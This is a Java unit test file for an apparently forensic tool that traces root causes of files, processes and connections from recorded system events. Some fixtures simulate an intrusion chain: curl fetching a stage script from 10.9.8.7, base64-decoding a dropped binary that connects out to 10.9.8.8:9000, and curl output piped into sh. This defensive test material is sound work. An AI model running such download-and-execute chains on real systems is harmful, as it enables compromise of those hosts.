package io.drec.query.question;

import static org.assertj.core.api.Assertions.assertThat;

import io.drec.record.IpcKind;
import io.drec.record.LossCause;
import io.drec.record.RecordLayout;
import io.drec.sample.Flow;
import io.drec.sample.Frames;
import io.drec.sample.Proc;
import io.drec.sample.Reach;
import io.drec.sample.Session;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Root causes of small stories, each with one right answer. */
final class WhyTest {
  private final Frames frames = new Frames().start();
  private final Proc shell = frames.running(100, "/bin/bash", "bash");

  @Test
  void shouldNameWriterShellDownloadToolAndAddressOfADroppedProgram() {
    Intrusion intrusion = new Intrusion();
    try (Story story = new Story(intrusion.frames)) {
      assertThat(path(story, "path:" + Intrusion.DROPPED))
          .containsExactly(
              "file /opt/demo/update",
              "written by base64 -d",
              "started by sh stage.sh",
              "ran the script /opt/demo/stage.sh",
              "written by curl -o stage.sh http://10.9.8.7:8000/s",
              "received data from 10.9.8.7:8000 (tcp), from 10.0.0.5:40000 here");
    }
  }

  @Test
  void shouldRankTheLoginBehindTheDownload() {
    Intrusion intrusion = new Intrusion();
    try (Story story = new Story(intrusion.frames)) {
      assertThat(story.text(Story.why("path:" + Intrusion.DROPPED)))
          .containsPattern("  2\\. 0\\.\\d+  .*sshd \\(pid 50\\) ← 198\\.51\\.100\\.9:50123")
          .containsPattern("  3\\. 0\\.\\d+  .*sshd \\(pid 50\\), which was running when")
          .doesNotContain("192.0.2.77");
    }
  }

  @Test
  void shouldExplainAProgramByWhoMadeItBeforeWhoStartedIt() {
    Intrusion intrusion = new Intrusion();
    try (Story story = new Story(intrusion.frames)) {
      assertThat(path(story, "pid:205"))
          .startsWith(
              "process ./update 10.9.8.8:9000",
              "ran the program /opt/demo/update",
              "written by base64 -d")
          .endsWith("received data from 10.9.8.7:8000 (tcp), from 10.0.0.5:40000 here");
    }
  }

  @Test
  void shouldExplainAConnectionByItsProcess() {
    Intrusion intrusion = new Intrusion();
    try (Story story = new Story(intrusion.frames)) {
      assertThat(path(story, "ip:10.9.8.8:9000"))
          .startsWith("flow 10.9.8.8:9000 (tcp), from 10.0.0.5:40000 here")
          .contains("reached by ./update 10.9.8.8:9000");
    }
  }

  @Test
  void shouldPutTheOriginOfDownloadedContentFirst() {
    Proc curl = shell.fork(200).exec("/usr/bin/curl", "curl", "-O", "http://203.0.113.7/x");
    Flow dns = curl.send("192.0.2.53", 53).receive();
    Flow flow = curl.connect("203.0.113.7", 80);
    Session out = curl.create("/root/x", 71);
    flow.close(100, 50_000);
    out.close(50_000);
    dns.close(40, 90);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "/root/x"))
          .containsExactly(
              "file /root/x",
              "written by curl -O http://203.0.113.7/x",
              "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
      assertThat(story.text(Story.why("/root/x"))).contains("bash (pid 100), which was running");
    }
  }

  @Test
  void shouldCrossThePipeOfADownloadIntoAShell() {
    Proc curl = shell.fork(200);
    Proc sh = shell.fork(201);
    curl.exec("/usr/bin/curl", "curl", "http://203.0.113.7/x");
    sh.exec("/bin/sh", "sh");
    Flow flow = curl.connect("203.0.113.7", 80);
    Reach.Pipe out = Reach.write(curl, 77);
    Reach.Pipe in = Reach.read(sh, 77, 0);
    Session made = sh.fork(202).exec("/usr/bin/touch", "touch", "/root/x").create("/root/x", 71);
    made.close(0);
    flow.close(100, 50);
    out.close(50);
    in.close(50);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "/root/x"))
          .containsExactly(
              "file /root/x",
              "written by touch /root/x",
              "started by sh",
              "ran the script pipe:[77]",
              "filled by curl http://203.0.113.7/x",
              "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
    }
  }

  @Test
  void shouldFollowContentThatWasPipedIntoAFile() {
    Proc curl = shell.fork(200).exec("/usr/bin/curl", "curl", "http://203.0.113.7/x");
    Proc tar = shell.fork(201).exec("/bin/tar", "tar", "-x");
    Flow flow = curl.connect("203.0.113.7", 80);
    Reach.write(curl, 77);
    Reach.read(tar, 77, 0);
    tar.create("/root/x", 71).close(500);
    flow.close(100, 500);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "/root/x"))
          .containsExactly(
              "file /root/x",
              "written by tar -x",
              "read from the pipe pipe:[77]",
              "filled by curl http://203.0.113.7/x",
              "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
    }
  }

  /** Its text lies in no file that the path could name. */
  @Test
  void shouldShowTheScriptThatAShellWasPiped() {
    Proc sh = shell.fork(201).exec("/bin/sh", "sh");
    Reach.runs(sh, "echo x > /root/x\n");
    sh.create("/root/x", 71).close(2);
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("path:/root/x")))
          .contains("Beside the path")
          .contains("script \"echo x > /root/x\" run by sh (pid 201)");
    }
  }

  /** tar has gzip unpack, and writes what that hands back. */
  @Test
  void shouldTakeWhatAChildHandsBackForContentWhenItIsWritten() {
    Proc curl = shell.fork(200).exec("/usr/bin/curl", "curl", "http://203.0.113.7/x.tgz");
    Proc tar = shell.fork(201).exec("/bin/tar", "tar", "xz");
    Flow flow = curl.connect("203.0.113.7", 80);
    Reach.Pipe out = Reach.write(curl, 77);
    Proc gzip = tar.fork(202).exec("/bin/gzip", "gzip", "-d");
    Reach.Pipe packed = Reach.read(gzip, 77, 0);
    Reach.Pipe unpacked = Reach.write(gzip, 78);
    Reach.Pipe back = Reach.read(tar, 78, 3);
    Session made = tar.create("/root/x", 71);
    made.close(500);
    flow.close(100, 300);
    out.close(300);
    packed.close(300);
    unpacked.close(500);
    back.close(500);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "/root/x"))
          .containsExactly(
              "file /root/x",
              "written by tar xz",
              "read from the pipe pipe:[78]",
              "filled by gzip -d",
              "read from the pipe pipe:[77]",
              "filled by curl http://203.0.113.7/x.tgz",
              "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
    }
  }

  /** What a shell learned by x=$(y) is gone when it has become another program. */
  @Test
  void shouldNotTakeWhatTheProgramBeforeReadForContent() {
    Proc script = shell.fork(200).exec("/bin/sh", "sh", "shim");
    Proc child = script.fork(201).exec("/usr/bin/curl", "curl", "http://203.0.113.7/version");
    Flow flow = child.connect("203.0.113.7", 80);
    Reach.Pipe out = Reach.write(child, 77);
    Reach.Pipe in = Reach.read(script, 77, 3);
    flow.close(100, 300);
    out.close(300);
    in.close(300);
    script.exec("/usr/bin/python3", "python3", "-c", "…").create("/root/x", 71).close(4);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "/root/x"))
          .startsWith("file /root/x", "written by python3 -c …", "started by bash");
    }
  }

  /** A server that was asked over a local socket does what the one who asked wants. */
  @Test
  void shouldExplainWhatAServerDoesByWhoAskedIt() {
    Proc server = shell.fork(200).exec("/usr/bin/dockerd", "dockerd");
    Proc other = shell.fork(201).exec("/usr/bin/docker", "docker", "ps");
    frames.after(20_000);
    Reach.act(other, IpcKind.SOCKET_CONNECT, 0, server);
    Reach.act(server, IpcKind.SOCKET_ACCEPT, 0, other);
    frames.after(60_000);
    Proc client = shell.fork(202).exec("/usr/bin/docker", "docker", "run", "x");
    Reach.act(client, IpcKind.SOCKET_CONNECT, 0, server);
    Reach.act(server, IpcKind.SOCKET_ACCEPT, 0, client);
    server.fork(203).exec("/bin/sh", "sh").create("/root/x", 71).close(4);
    frames.after(60_000);
    server.fork(204).exec("/bin/sh", "sh").create("/root/y", 72).close(4);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "/root/x"))
          .startsWith(
              "file /root/x",
              "written by sh",
              "started by dockerd",
              "was connected to over a local socket by docker run x");
      assertThat(path(story, "/root/y"))
          .as("a minute later nobody knows who asked")
          .startsWith("file /root/y", "written by sh", "started by dockerd", "started by bash");
    }
  }

  @Test
  void shouldFollowWhatACopyWasToldToRead() {
    Proc curl = shell.fork(200).exec("/usr/bin/curl", "curl", "http://203.0.113.7/x");
    Flow flow = curl.connect("203.0.113.7", 80);
    Session out = curl.create("/root/x", 71);
    out.close(500);
    flow.close(1, 500);
    Proc copy = shell.fork(201).exec("/bin/cp", "cp", "x", "/opt/y");
    Session in = copy.read("/root/x", 71);
    Session to = copy.create("/opt/y", 72);
    in.close(500);
    to.close(500);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "path:/opt/y"))
          .containsExactly(
              "file /opt/y",
              "written by cp x /opt/y",
              "read /root/x",
              "written by curl http://203.0.113.7/x",
              "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
    }
  }

  @Test
  void shouldFollowAFileThroughItsNames() {
    Proc writer = shell.fork(200).exec("/bin/tee", "tee", "a");
    writer.create("/tmp/a", 71).close(5);
    Proc mover = shell.fork(201).exec("/bin/mv", "mv");
    mover.rename("/tmp/a", "/tmp/b").rename("/tmp/b", "/tmp/c");
    try (Story story = new Story(frames)) {
      for (String name : List.of("/tmp/a", "/tmp/b", "/tmp/c")) {
        assertThat(path(story, "path:" + name))
            .as(name)
            .startsWith("file /tmp/c", "written by tee a");
      }
      assertThat(story.text(Story.why("/tmp/c"))).contains("before /tmp/b, before /tmp/a");
    }
  }

  @Test
  void shouldNotLinkWhatBeganTooLate() {
    Proc writer = shell.fork(200).exec("/bin/tee", "tee", "a");
    Session out = writer.create("/tmp/a", 71);
    out.close(5);
    writer.connect("203.0.113.7", 80).close(1, 500);
    shell.connect("203.0.113.8", 80).close(1, 500);
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("/tmp/a"))).doesNotContain("203.0.113");
    }
  }

  @Test
  void shouldLinkWhatActedBeforeTheOutputWasClosed() {
    Proc writer = shell.fork(200).exec("/bin/tee", "tee", "a");
    Session out = writer.create("/tmp/a", 71);
    Flow flow = writer.connect("203.0.113.7", 80);
    out.close(5);
    flow.close(1, 500);
    try (Story story = new Story(frames)) {
      assertThat(path(story, "/tmp/a")).last().asString().contains("203.0.113.7:80");
    }
  }

  @Test
  void shouldForgetContentThatWasReplaced() {
    Proc first = shell.fork(200).exec("/bin/old", "old");
    Flow flow = first.connect("203.0.113.7", 80);
    Session out = first.create("/tmp/a", 71);
    out.close(5);
    flow.close(1, 500);
    Proc second = shell.fork(201).exec("/bin/new", "new");
    int emptied = RecordLayout.ACCESS_WRITE | RecordLayout.ACCESS_TRUNCATE;
    second.open("/tmp/a", 71, emptied).close(7);
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("/tmp/a")))
          .contains("written by new")
          .doesNotContain("203.0.113.7")
          .doesNotContain("old");
    }
  }

  @Test
  void shouldKeepAppendedContent() {
    Proc first = shell.fork(200).exec("/bin/old", "old");
    Flow flow = first.connect("203.0.113.7", 80);
    first.create("/tmp/a", 71).close(5);
    flow.close(1, 500);
    Proc second = shell.fork(201).exec("/bin/new", "new");
    second.write("/tmp/a", 71).close(7);
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("/tmp/a"))).contains("203.0.113.7", "new (pid 201)");
    }
  }

  @Test
  void shouldTellProcessesOfOneIdApart() {
    shell.fork(200).exec("/bin/one", "one").exit(0);
    frames.after(1000);
    Proc other = shell.fork(300).exec("/bin/other", "other");
    other.fork(200).exec("/bin/two", "two");
    try (Story story = new Story(frames)) {
      assertThat(path(story, "pid:200")).startsWith("process two", "started by other");
      assertThat(story.text(Story.why("pid:200")))
          .contains("Note: pid:200 means 2 entities; this answer is about the newest")
          .containsPattern("The other: one \\(pid 200\\) since \\S+, process:p[0-9a-f]{16}")
          .doesNotContain("started by one");
      assertThat(path(story, "pid:200", Story.until("2026-01-01T00:00:01.5")))
          .startsWith("process one");
    }
  }

  @Test
  void shouldEndOnFilesThatFeedEachOther() {
    Proc one = shell.fork(200).exec("/bin/one", "one", "/tmp/a", "/tmp/b");
    Proc two = shell.fork(201).exec("/bin/two", "two", "/tmp/a", "/tmp/b");
    for (int round = 0; round < 20; round++) {
      one.write("/tmp/a", 71).close(5);
      two.read("/tmp/a", 71).close(5);
      two.write("/tmp/b", 72).close(5);
      one.read("/tmp/b", 72).close(5);
    }
    try (Story story = new Story(frames)) {
      List<String> path = path(story, "/tmp/a");
      assertThat(path)
          .doesNotHaveDuplicates()
          .startsWith("file /tmp/a", "written by one /tmp/a /tmp/b");
      assertThat(path).last().isEqualTo("started by bash");
    }
  }

  @Test
  void shouldNotTakeAFailedConnectionForAnEntry() {
    Proc writer = shell.fork(200).exec("/bin/tee", "tee", "a");
    writer.connectFails("203.0.113.7", 80, -111);
    writer.create("/tmp/a", 71).close(5);
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("/tmp/a"))).doesNotContain("203.0.113.7");
    }
  }

  @Test
  void shouldNotExplainAProcessByWhatItDidLater() {
    Proc tool = shell.fork(200).exec("/bin/tool", "tool");
    tool.connect("203.0.113.7", 80).close(1, 500);
    tool.create("/tmp/a", 71).close(5);
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("pid:200"))).doesNotContain("203.0.113.7");
      assertThat(story.text(Story.why("/tmp/a"))).contains("203.0.113.7");
    }
  }

  @Test
  void shouldTakeANameForTheFileThatWasMadeElseForTheProcess() {
    shell.create("/tmp/made", Proc.inodeOf("/tmp/made")).close(5);
    Proc made = shell.fork(200).exec("/tmp/made", "made");
    made.fork(201).exit(0);
    shell.fork(202).exec("/usr/bin/old", "old");
    try (Story story = new Story(frames)) {
      assertThat(path(story, "name:made")).startsWith("file /tmp/made");
      assertThat(path(story, "name:old")).startsWith("process old");
      assertThat(path(story, "path:/usr/bin/old")).startsWith("file /usr/bin/old");
    }
  }

  @Test
  void shouldSayThatAFileWasThereBefore() {
    shell.fork(200).exec("/bin/tool", "tool");
    try (Story story = new Story(frames)) {
      Reply reply = story.ask(Story.why("/bin/tool"), OutputFormat.TEXT);
      assertThat(reply.status()).isEqualTo(Reply.Status.ANSWER);
      assertThat(Story.body(reply)).contains("entry: it was not written within the recording");
    }
  }

  @Test
  void shouldSayThatAParentIsOutsideTheRecording() {
    frames.unseen(7).fork(300).exec("/bin/tool", "tool");
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("pid:300")))
          .contains("was started by something that is not in this recording");
    }
  }

  @Test
  void shouldKeepTheDefaultViewSmall() {
    Proc server = shell.fork(200).exec("/usr/sbin/server", "server");
    for (int i = 0; i < 300; i++) {
      server.accept("198.51.100." + (i % 250 + 1), 1024 + i).close(10, 10);
    }
    server.create("/tmp/a", 71).close(5);
    try (Story story = new Story(frames)) {
      String json = story.json(new Question.Why("/tmp/a", Story.limit(1000)));
      String graph = json.substring(json.indexOf("\"graph\""));
      assertThat(graph.split("\"kind\"", -1).length - 1).isBetween(3, 60);
      assertThat(json).contains("older accept edges into");
    }
  }

  @Test
  void shouldWarnOfGapsAndOnlyOfThoseInTheTimeOfTheAnswer() {
    frames.lost(LossCause.RING_FULL, frames.nowNs() - Frames.MS, frames.nowNs(), 17);
    shell.fork(200).exec("/bin/tee", "tee").create("/tmp/a", 71).close(5);
    frames.after(5000);
    frames.lost(LossCause.JOURNAL, frames.nowNs(), frames.nowNs() + Frames.MS, 5);
    try (Story story = new Story(frames)) {
      assertThat(story.text(Story.why("/tmp/a")))
          .contains("! 1 gap in the time of this answer", "ring full, 17 lost")
          .doesNotContain("journal, 5 lost");
    }
  }

  @Test
  void shouldAnswerTheSameWhileRecordingGoesOn() {
    Intrusion before = new Intrusion();
    Intrusion after = new Intrusion();
    after.frames.seal().after(10_000);
    after.login.fork(900).exec("/bin/ls", "ls").exit(0);
    after.frames.stop("asked to");
    try (Story one = new Story(before.frames);
        Story other = new Story(after.frames)) {
      Question question = Story.why("path:" + Intrusion.DROPPED);
      assertThat(other.json(question)).isEqualTo(one.json(question));
      assertThat(one.json(question)).isEqualTo(one.json(question));
    }
  }

  private static List<String> path(Story story, String point) {
    return path(story, point, Question.Options.NONE);
  }

  /** The steps of the first cause, without their details. */
  private static List<String> path(Story story, String point, Question.Options options) {
    String text = story.text(new Question.Why(point, options));
    int others = text.indexOf("Other causes");
    return (others < 0 ? text : text.substring(0, others))
        .lines()
        .filter(line -> line.matches(" +\\d+\\. .*"))
        .map(line -> line.replaceFirst(" +\\d+\\. ", ""))
        .toList();
  }
}
